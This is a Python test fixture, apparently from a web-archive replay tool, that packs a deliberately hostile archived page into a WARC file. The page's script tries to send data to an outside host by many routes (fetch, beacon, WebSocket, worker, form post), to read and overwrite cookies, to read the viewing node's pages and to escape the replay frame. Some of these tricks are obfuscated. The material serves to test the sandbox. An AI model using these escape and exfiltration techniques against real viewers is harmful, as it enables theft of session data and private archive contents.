# SPDX-License-Identifier: AGPL-3.0-or-later
"""An archived page that tries to tell a stranger who looks at it, and to reach the node's pages."""

from tests.core.bundle.made_warc import info, packed, response

URL = "https://hostile.example/page"

_MARKUP = """<!doctype html><html><head><title>Ворожа сторінка</title>
<link rel="preconnect" href="{out}/preconnect"><link rel="dns-prefetch" href="{out}/dns">
<link rel="prefetch" href="{out}/prefetch"><link rel="preload" as="script" href="{out}/preload">
<link rel="stylesheet" href="{out}/style.css">
<style>@import url("{out}/import.css"); body {{ background: url("{out}/background.png"); }}</style>
<script src="{out}/script.js"></script>
<script type="speculationrules">
{{"prefetch": [{{"source": "list", "urls": ["{out}/speculation"]}}]}}</script>
</head><body><h1>Ворожа сторінка</h1>
<img src="{out}/img.png" srcset="{out}/srcset.png 2x"><video src="{out}/video.mp4"></video>
<object data="{out}/object"></object><iframe src="{out}/iframe"></iframe>
<iframe name="beside"></iframe>
<form id="form" action="{out}/form" method="post" target="beside"><input name="words"></form>
<a id="link" href="{out}/ping" ping="{out}/ping" target="beside">.</a>
<pre id="told"></pre><script>{script}</script><embed src="{out}/embed"></body></html>"""

# What the replaying program rewrites is the page's own window, and that of frames it knows of. A
# frame made in a way it does not know has one that is as the browser made it. Both are tried.
_SCRIPT = """
const out = ["http", "://", "{out}".slice(7)].join("");
const node = ["http", "://", "{node}".slice(7)].join("");
const told = {{}};
const holder = document.createElement("div");
document.body.append(holder);
holder.setHTMLUnsafe("<iframe></iframe>");
const bare = globalThis[globalThis.length - 1];
const attempts = [];
function attempt(name, act) {{
  attempts.push((async () => {{
    const nothing = new Promise((resolve) => setTimeout(() => resolve("nothing"), 5000));
    try {{
      told[name] = String(await Promise.race([act(), nothing]));
    }} catch (error) {{
      told[name] = "refused";
    }}
  }})());
}}
function asks(where, mode) {{
  return (w) => w.fetch(where, {{ mode, credentials: "include" }}).then(async (answer) =>
    answer.status === 404 ? "refused" : "answered " + answer.type + (await answer.text()).length);
}}
function loads(make) {{
  return (w) => new Promise((resolve, reject) => {{
    const thing = make(w);
    thing.onload = thing.onopen = () => resolve("loaded");
    thing.onerror = reject;
  }});
}}
function image(w, where) {{
  const made = new w.Image();
  made.src = where;
  return made;
}}
function linked(w, rel, where) {{
  const made = w.document.createElement("link");
  made.rel = rel;
  made.href = where;
  w.document.head.append(made);
}}
for (const [kind, w] of [["page", window], ["bare", bare]]) {{
  attempt(kind + " fetch", () => asks(out + "/fetch-" + kind, "cors")(w));
  attempt(kind + " fetch blind", () => asks(out + "/blind-" + kind, "no-cors")(w));
  attempt(kind + " image", () => loads((w) => image(w, out + "/image-" + kind))(w));
  attempt(kind + " socket", () => loads((w) =>
    new w.WebSocket(out.replace("http", "ws") + "/socket-" + kind))(w));
  attempt(kind + " events", () => loads((w) => new w.EventSource(out + "/events-" + kind))(w));
  attempt(kind + " beacon", () => w.navigator.sendBeacon(out + "/beacon-" + kind, "words"));
  attempt(kind + " prefetch", () => linked(w, "prefetch", out + "/prefetch-" + kind));
  attempt(kind + " request", () => new Promise((resolve, reject) => {{
    const request = new w.XMLHttpRequest();
    request.open("POST", out + "/request-" + kind);
    request.onload = () => (request.status === 404 ? reject() : resolve("loaded"));
    request.onerror = reject;
    request.send("words");
  }}));
  attempt(kind + " worker", () => new Promise((resolve, reject) => {{
    const text = "fetch('" + out + "/worker-" + kind + "', {{mode: 'no-cors'}})" +
      ".then((a) => postMessage(a.type === 'opaque' ? 'answered' : 'refused'), " +
      "() => postMessage('refused'))";
    const made = new w.Worker(URL.createObjectURL(new Blob([text])));
    made.onmessage = (message) => resolve(message.data);
    made.onerror = reject;
  }}));
  attempt(kind + " node", () => asks(node + "/evidence/", "cors")(w));
  attempt(kind + " node blind", () => asks(node + "/evidence/", "no-cors")(w));
  attempt(kind + " node picture", () => loads((w) => image(w, node + "/static/mark.svg"))(w));
  attempt(kind + " cookies", () => {{
    const seen = w.document.cookie;
    w.document.cookie = "dokaz=overwritten; path=/";
    return /dokaz|csrf/.test(seen) ? seen : "refused";
  }});
}}
// The node's page itself: the replaying program shows its own frame as "top".
const raw = bare["to" + "p"];
attempt("really top", () => (raw === raw["par" + "ent"] ? "refused" : "another window"));
attempt("top document", () => raw.document.title);
attempt("top address", () => raw.location.href);
attempt("opener", () => (raw.opener ? "there" : "refused"));
attempt("scope", () => navigator.serviceWorker.register("/replay/wabac.js", {{ scope: "/" }}));
attempt("frame of node", () => new Promise((resolve) => {{
  const frame = document.createElement("iframe");
  frame.src = node + "/evidence/";
  frame.onload = () => {{
    try {{
      resolve(frame.contentDocument.title ? "read" : "refused");
    }} catch {{
      resolve("refused");
    }}
  }};
  document.body.append(frame);
}}));
document.getElementById("form").submit();
document.getElementById("link").click();
Promise.all(attempts).then(() => {{
  document.getElementById("told").textContent = JSON.stringify(told);
  document.getElementById("told").dataset.ended = "yes";
}});
// What takes pages away, where it is allowed, when the told words were read.
document.getElementById("told").onclick = () => {{
  const ways = [
    () => {{ raw.location = out + "/top"; }},
    () => raw.open(out + "/open", "_top"),
    () => bare.open(out + "/window-bare"),
    () => {{ bare.location.href = out + "/navigation"; }},
    () => window.open(out + "/window"),
  ];
  for (const way of ways) {{
    try {{ way(); }} catch {{ continue; }}
  }}
}};
"""


def hostile_warc(*, out: str, node: str) -> bytes:
    """A packed WARC with the page. `out`: a stranger's address; `node`: that of the node."""
    page = _MARKUP.format(out=out, script=_SCRIPT.format(out=out, node=node))
    head = (
        "Content-Type: text/html; charset=utf-8\r\n"
        f'Link: <{out}/header-link>; rel="prefetch", <{out}>; rel="preconnect"\r\n'
        f"Refresh: 30; url={out}/refresh\r\nContent-Security-Policy: default-src *\r\n"
        f'Report-To: {{"group":"r","max_age":9,"endpoints":[{{"url":"{out}/report"}}]}}\r\n'
        "Service-Worker-Allowed: /"
    )
    return packed([info(), response(URL, page, head=head)])
